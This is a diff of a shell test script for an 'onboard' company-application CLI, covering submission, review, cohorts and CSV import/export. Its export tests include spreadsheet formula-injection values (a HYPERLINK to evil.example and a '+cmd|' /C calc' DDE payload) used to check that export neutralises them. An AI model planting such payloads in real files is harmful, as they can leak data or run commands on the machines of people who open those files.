@@ -13,63 +13,10 @@ set -u
 root=$(cd "$(dirname "$0")/../.." && pwd)
 sample=${SAMPLE:-$root/deploy/sample/companies.csv}
 
-dir=$(mktemp -d "${TMPDIR:-/tmp}/onboard-cli-apps.XXXXXX")
+. "$(dirname "$0")/lib.sh"
+lib_init onboard-cli-apps
 url="ipc://$dir/s.sock"
-"$ONBOARDD" --listen "$url" --db "$dir/db.sqlite" --no-access-log >"$dir/server.log" 2>&1 &
-server=$!
-cleanup() {
-	kill "$server" 2>/dev/null
-	wait "$server" 2>/dev/null
-	rm -rf "$dir"
-}
-trap cleanup EXIT
-
-failures=0
-checks=0
-
-# run ARGS...: runs the CLI; stdout in $dir/out, stderr in $dir/err, status in $rc.
-run() {
-	"$ONBOARD_CLI" -s "$url" "$@" >"$dir/out" 2>"$dir/err"
-	rc=$?
-	last="onboard $*"
-}
-
-fail() {
-	failures=$((failures + 1))
-	echo "FAIL: $1"
-	echo "  command: $last"
-	echo "  exit status: $rc"
-	sed 's/^/  stdout: /' "$dir/out" | head -20
-	sed 's/^/  stderr: /' "$dir/err" | head -20
-}
-
-# expect_rc WANT WHAT
-expect_rc() {
-	checks=$((checks + 1))
-	[ "$rc" -eq "$1" ] || fail "$2: exit status $rc, want $1"
-}
-
-# expect_out REGEX WHAT / expect_err REGEX WHAT: a line of stdout / stderr matches.
-expect_out() {
-	checks=$((checks + 1))
-	grep -qE -- "$1" "$dir/out" || fail "$2: no line of stdout matches /$1/"
-}
-expect_err() {
-	checks=$((checks + 1))
-	grep -qE -- "$1" "$dir/err" || fail "$2: no line of stderr matches /$1/"
-}
-
-# expect_eq GOT WANT WHAT
-expect_eq() {
-	checks=$((checks + 1))
-	[ "$1" = "$2" ] || fail "$3: got '$1', want '$2'"
-}
-
-# json EXPR: evaluates a Python expression over the JSON of stdout (as j).
-json() {
-	python3 -c 'import json, sys; j = json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' \
-		"$dir/out" "$1" 2>/dev/null
-}
+onboardd_start "$url" --db "$dir/db.sqlite" --no-access-log
 
 # applications [COHORT]: how many applications the cohort has.
 applications() {
@@ -78,21 +25,17 @@ applications() {
 			"$dir/standing.json" 2>/dev/null
 }
 
-for _ in $(seq 100); do
-	"$ONBOARD_CLI" -s "$url" --timeout 1s health >/dev/null 2>&1 && break
-	sleep 0.1
-done
-run health
+cli health
 expect_rc 0 "the server serves"
-[ "$rc" -eq 0 ] || { cat "$dir/server.log"; exit 1; }
+[ "$rc" -eq 0 ] || { cat "$log"; exit 1; }
 
 # --- help ----------------------------------------------------------------
 for cmd in submit get list review withdraw cohort import export; do
-	run "$cmd" --help
+	cli "$cmd" --help
 	expect_rc 0 "$cmd --help"
 	expect_out "^Usage: onboard $cmd" "$cmd --help prints the usage"
 done
-run list --bogus
+cli list --bogus
 expect_rc 2 "an unknown flag is a usage error"
 expect_err "unknown option '--bogus'" "the usage error names the flag"
 
@@ -103,23 +46,23 @@ company=(--siren 123456782 --siret 12345678200010 --legal-name "Boulangerie Test
 	--postal-code 75011 --city Paris --contact-name "Marie Essai"
 	--email marie.essai@example.fr --phone "01 99 00 12 34" --channel marketplace
 	--export --category food --category pastry)
-run submit "${company[@]}" --accept-terms
+cli submit "${company[@]}" --accept-terms
 expect_rc 0 "submit with flags"
 expect_out "^application [0-9A-Z]{26}: SUBMITTED, seat held" "submit prints the id, state and seat"
 id=$(grep -oE '[0-9A-Z]{26}' "$dir/out" | head -1)
 
-run submit "${company[@]}" --accept-terms
+cli submit "${company[@]}" --accept-terms
 expect_rc 70 "the same SIREN again is ALREADY_EXISTS"
 expect_err "ALREADY_EXISTS" "the refusal is printed"
 
-run submit --siren 123456789 --legal-name "Mauvais SARL" --naf 47.91B --address "1 rue" \
+cli submit --siren 123456789 --legal-name "Mauvais SARL" --naf 47.91B --address "1 rue" \
 	--postal-code 75011 --city Paris --contact-name "X Y" --email not-an-email \
 	--phone "01 99 00 12 35" --channel both --accept-terms
 expect_rc 67 "a bad SIREN and a bad e-mail are INVALID_ARGUMENT"
 expect_err "^  company\.siren: " "the SIREN's violation is on its own line"
 expect_err "^  contact\.email: " "the e-mail's violation is on its own line"
 
-run submit --siren 625308291 --legal-name "Sans Conditions SAS" --naf 47.91B \
+cli submit --siren 625308291 --legal-name "Sans Conditions SAS" --naf 47.91B \
 	--address "2 rue" --postal-code 69003 --city Lyon --contact-name "A B" \
 	--email a.b@example.fr --phone "04 65 71 00 01" --channel webshop
 expect_rc 67 "without --accept-terms the server refuses"
@@ -132,16 +75,16 @@ cat >"$dir/app.json" <<'EOF'
  "contact": {"name": "Jean Fichier", "email": "jean.fichier@example.com", "phone": "0696 12 34 56"},
  "channel": "CHANNEL_BOTH", "productCategories": ["home"]}
 EOF
-run --json submit --file "$dir/app.json" --accept-terms
+cli --json submit --file "$dir/app.json" --accept-terms
 expect_rc 0 "submit --file"
 expect_eq "$(json 'j["state"]')" APPLICATION_STATE_SUBMITTED "submit --json prints the Application"
 expect_eq "$(json 'j["sizeCategory"]')" SIZE_CATEGORY_PME "the server sizes the company"
 id2=$(json 'j["id"]')
-run submit --file "$dir/app.json" --siren 123456782
+cli submit --file "$dir/app.json" --siren 123456782
 expect_rc 2 "--file with field flags is a usage error"
 
 # --- get and list --------------------------------------------------------
-run get "$id"
+cli get "$id"
 expect_rc 0 "get by id"
 expect_out "^Application +$id" "get shows the id"
 expect_out "SIREN 123456782" "get shows the SIREN"
@@ -149,87 +92,87 @@ expect_out "^Size +TPE" "get shows the size"
 expect_out "^Region +.*de-France \(departement 75\)" "get shows the region"
 expect_out "^State +SUBMITTED \(seat held\)" "get shows the state"
 expect_out "^History .*-> SUBMITTED" "get shows the history"
-run get --siren 625308291
+cli get --siren 625308291
 expect_rc 0 "get by SIREN"
 expect_out "^Application +$id2" "get --siren finds the application"
 expect_out "departement 2B" "Bastia is in Haute-Corse"
-run get 01AAAAAAAAAAAAAAAAAAAAAAAA
+cli get 01AAAAAAAAAAAAAAAAAAAAAAAA
 expect_rc 69 "get of an unknown id is NOT_FOUND"
-run get
+cli get
 expect_rc 2 "get needs an id"
 
-run list
+cli list
 expect_rc 0 "list"
 expect_out "^$id +123456782 +Boulangerie Test SARL +SUBMITTED +TPE +75 " "list shows the application"
-run list --page-size 1
+cli list --page-size 1
 expect_rc 0 "list one page"
 expect_out "^next page: --page-token " "list gives the next page's token"
 token=$(sed -n 's/^next page: --page-token //p' "$dir/out")
-run list --page-size 1 --page-token "$token"
+cli list --page-size 1 --page-token "$token"
 expect_rc 0 "list the next page"
 expect_out "^$id2 " "the next page holds the second application"
-run --json list --all --page-size 1
+cli --json list --all --page-size 1
 expect_rc 0 "list --all --json"
 expect_eq "$(json 'len(j["applications"])')" 2 "--all --json merges the pages"
-run list --state under-review
+cli list --state under-review
 expect_out "^no applications" "a filter that selects nothing"
-run list --state sleeping
+cli list --state sleeping
 expect_rc 2 "an unknown state is a usage error"
 
 # --- review and withdraw ----------------------------------------------------
-run review "$id" start --version 1
+cli review "$id" start --version 1
 expect_rc 0 "review start at version 1"
 expect_out "UNDER_REVIEW.*version 2" "start moves to UNDER_REVIEW"
-run review "$id" approve --version 1
+cli review "$id" approve --version 1
 expect_rc 74 "a stale --version is ABORTED"
-run review "$id" onboard
+cli review "$id" onboard
 expect_rc 73 "an illegal transition is FAILED_PRECONDITION"
 expect_err "UNDER_REVIEW" "the refusal names the current state"
-run review "$id" reject
+cli review "$id" reject
 expect_rc 2 "reject needs --reason"
-run review "$id" approve --note "dossier complet"
+cli review "$id" approve --note "dossier complet"
 expect_rc 0 "approve without --version reads the current one"
 expect_out "APPROVED" "approve moves to APPROVED"
 expect_out "^benefits: fee waiver " "approve shows the benefits"
 expect_out "ad credit 200\.00 EUR" "the ad credit of the default cohort"
-run get "$id"
+cli get "$id"
 expect_out "^Benefits +fee waiver" "get shows the benefits"
 expect_out "dossier complet" "the note is in the history"
 
-run withdraw "$id2" --version 9
+cli withdraw "$id2" --version 9
 expect_rc 74 "withdraw with a stale version"
-run withdraw "$id2" --reason "changed its mind"
+cli withdraw "$id2" --reason "changed its mind"
 expect_rc 0 "withdraw"
 expect_out "WITHDRAWN, no seat" "withdraw frees the seat"
-run withdraw "$id2"
+cli withdraw "$id2"
 expect_rc 73 "withdrawing twice is FAILED_PRECONDITION"
 
 # --- cohorts -------------------------------------------------------------
-run cohort
+cli cohort
 expect_rc 0 "cohort"
 expect_out "^Seats +1 / 800 held, 799 free" "cohort shows the seats against the capacity"
 expect_out "^By state .*APPROVED 1" "cohort counts by state"
-run cohort --list
+cli cohort --list
 expect_rc 0 "cohort --list"
 expect_out "^2020-11 " "the default cohort is listed"
-run cohort --create --id tiny --name "Tiny test cohort" --capacity 1
+cli cohort --create --id tiny --name "Tiny test cohort" --capacity 1
 expect_rc 0 "cohort --create"
-run cohort --create --id tiny --name "Tiny test cohort"
+cli cohort --create --id tiny --name "Tiny test cohort"
 expect_rc 70 "creating it again is ALREADY_EXISTS"
-run submit "${company[@]}" --accept-terms --cohort tiny
+cli submit "${company[@]}" --accept-terms --cohort tiny
 expect_rc 0 "submit to the small cohort"
-run submit --siren 625308291 --legal-name "Fichier JSON SAS" --naf 47.91A --address "3 place" \
+cli submit --siren 625308291 --legal-name "Fichier JSON SAS" --naf 47.91A --address "3 place" \
 	--postal-code 20200 --city Bastia --contact-name "Jean Fichier" \
 	--email jean.fichier@example.com --phone "0696 12 34 56" --channel both --accept-terms \
 	--cohort tiny
 expect_rc 0 "submit beyond the capacity"
 expect_out "WAITLISTED, waitlist position 1" "the second waits in line"
-run cohort tiny --capacity 2
+cli cohort tiny --capacity 2
 expect_rc 0 "cohort --capacity"
 expect_out "^Seats +2 / 2 held, 0 free" "raising the capacity promotes from the waitlist"
-run cohort tiny --capacity 1
+cli cohort tiny --capacity 1
 expect_rc 73 "the capacity cannot go below the seats held"
-run cohort nosuch
+cli cohort nosuch
 expect_rc 69 "an unknown cohort is NOT_FOUND"
 
 # --- import ------------------------------------------------------------------
@@ -240,14 +183,14 @@ refused=$(python3 -c 'import csv, sys
 print(sum(1 for r in csv.DictReader(open(sys.argv[1], encoding="utf-8")) if int(r["employees"]) >= 250))' \
 	"$sample")
 before=$(applications)
-run import "$sample"
+cli import "$sample"
 expect_rc 73 "import: the ETI lines make it exit 64 + FAILED_PRECONDITION"
 expect_out "^summary: $((expected + refused)) lines, $expected created \($expected SUBMITTED\), 0 already imported, $refused refused \($refused FAILED_PRECONDITION\)" \
 	"the import summary"
 expect_out "^line [0-9]+: [0-9]{9} refused FAILED_PRECONDITION: .*ETI" "an ETI line is refused"
 expect_eq "$(applications)" "$((before + expected))" "the import created one application a line"
 
-run import "$sample" --quiet
+cli import "$sample" --quiet
 expect_rc 73 "import again"
 expect_out "^summary: .* 0 created \(none\), $expected already imported, $refused refused" \
 	"nothing is created twice"
@@ -259,7 +202,7 @@ printf ',,,,,,,,,,,,\r\n' >>"$dir/small.csv"
 printf '289906083,Sans Termes SAS,47.91B,2 rue,29200,Brest,Paul Terme,paul.terme@example.fr,02 61 91 00 02,both,no,,false\r\n' >>"$dir/small.csv"
 printf '123456782,Autre Boulangerie SARL,10.71C,3 rue,75011,Paris,Luc Autre,luc.autre@example.fr,01 99 00 00 03,webshop,no,food,\r\n' >>"$dir/small.csv"
 printf '261352413,Employes SARL,10.71C,3 rue,75011,Paris,Luc Autre,luc.autre@example.fr,01 99 00 00 03,webshop,maybe,food,\r\n' >>"$dir/small.csv"
-run import "$dir/small.csv"
+cli import "$dir/small.csv"
 expect_rc 67 "the first refused line decides the exit status"
 expect_out "^line 2: 708101118 created SUBMITTED" "BOM, CRLF, quotes and any column order"
 expect_out "^line 4: 289906083 refused INVALID_ARGUMENT" "accepts_terms false is refused"
@@ -268,33 +211,33 @@ expect_out "^line 5: 123456782 refused ALREADY_EXISTS" "a SIREN that applied oth
 expect_out "^line 6: 261352413 refused INVALID_ARGUMENT: checked before sending" "a bad cell"
 expect_out "^    export: must be true or false" "the bad cell is named"
 expect_out "^summary: 4 lines, 1 created" "the blank line is skipped"
-run get --siren 708101118
+cli get --siren 708101118
 expect_out 'Le "Quai", Atelier SARL' "quoted cells keep their commas and quotes"
 expect_out "^Categories +art, crafts" "categories are split on ';' and trimmed"
 
 printf 'siren,legal_name,colour\n708101118,X,red\n' >"$dir/unknown.csv"
-run import "$dir/unknown.csv"
+cli import "$dir/unknown.csv"
 expect_rc 1 "an unknown column"
 expect_err "unknown column 'colour'" "the unknown column is named"
 printf 'siren,legal_name\n708101118\n' >"$dir/ragged.csv"
-run import "$dir/ragged.csv"
+cli import "$dir/ragged.csv"
 expect_rc 1 "a line with a missing cell"
 expect_err "line 2: 1 cells, but the header names 2" "the short line is named"
 printf 'siren,legal_name\n708101118,"unterminated\n' >"$dir/open.csv"
-run import "$dir/open.csv"
+cli import "$dir/open.csv"
 expect_rc 1 "an unterminated quote"
 expect_err "line 2: a quoted field opened on this line is never closed" "the quote's line"
 
 # --- export ------------------------------------------------------------------
 # A company whose text a spreadsheet would run as formulas (the server takes them: they are
 # printable text): export neutralises them, import of the export gives them back unchanged.
-run submit --siren 412345670 --legal-name '=HYPERLINK("http://evil.example/?x","Relevé")' \
+cli submit --siren 412345670 --legal-name '=HYPERLINK("http://evil.example/?x","Relevé")' \
 	--trade-name '@SUM(1+1)' --naf 47.91B --address '-1+2 rue des Formules' \
 	--postal-code 29200 --city Brest --contact-name "+cmd|' /C calc'!A0" \
 	--email formule@example.fr --phone "02 61 91 00 09" --channel both --accept-terms
 expect_rc 0 "a company with formula-like text"
 total=$(applications)
-run export --cohort 2020-11
+cli export --cohort 2020-11
 expect_rc 0 "export"
 expect_eq "$(head -1 "$dir/out")" \
 	"siren,siret,legal_name,trade_name,naf,vat,employees,turnover_eur,balance_eur,address,postal_code,city,contact_name,email,phone,channel,export,categories,cohort,id,state,size,departement,region,submitted_at,version" \
@@ -314,20 +257,20 @@ for row in csv.reader(open(sys.argv[1], encoding="utf-8", newline="")):
     for cell in row:
         if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"\+[0-9]{8,15}", cell):
             print(repr(cell))' "$dir/out")
-[ -z "$formulas" ] || fail "cells that start a formula: $formulas"
+[ -z "$formulas" ] || fail_last "cells that start a formula: $formulas"
 cp "$dir/out" "$dir/export.csv"
 
-run cohort --create --id copy --name "Copy of the default cohort" --capacity 1000
+cli cohort --create --id copy --name "Copy of the default cohort" --capacity 1000
 expect_rc 0 "a cohort to import the export into"
-run import "$dir/export.csv" --cohort copy --quiet
+cli import "$dir/export.csv" --cohort copy --quiet
 expect_rc 0 "an export imports back, into another cohort"
 expect_eq "$(applications copy)" "$total" "the copy holds every application"
-run get --siren 412345670 --cohort copy
+cli get --siren 412345670 --cohort copy
 expect_out '^Company +=HYPERLINK\("http://evil.example/\?x","Relevé"\) \(trading as @SUM\(1\+1\)\)$' \
 	"import takes the export's quote off"
 expect_out "^Contact +\\+cmd\\|' /C calc'!A0 <formule@example.fr>, \\+33261910009$" \
 	"and the contact's"
-run export --cohort copy
+cli export --cohort copy
 # The company's line, up to its cohort, is the same in both exports: import took off exactly
 # the quotes export added, no more.
 company_line() {
@@ -337,10 +280,9 @@ for row in csv.reader(open(sys.argv[1], encoding="utf-8", newline="")):
         print(row[:18])' "$1"
 }
 expect_eq "$(company_line "$dir/out")" "$(company_line "$dir/export.csv")" "the formulas round-trip"
-run export --cohort copy --state submitted --size tpe
+cli export --cohort copy --state submitted --size tpe
 expect_rc 0 "export with filters"
 expect_eq "$(tail -n +2 "$dir/out" | cut -d, -f1 | grep -c .)" \
 	"$(tail -n +2 "$dir/out" | grep -c ',SUBMITTED,TPE,')" "the filters apply"
 
-echo "$checks checks, $failures failed"
-[ "$failures" -eq 0 ]
+finish "cli_apps"
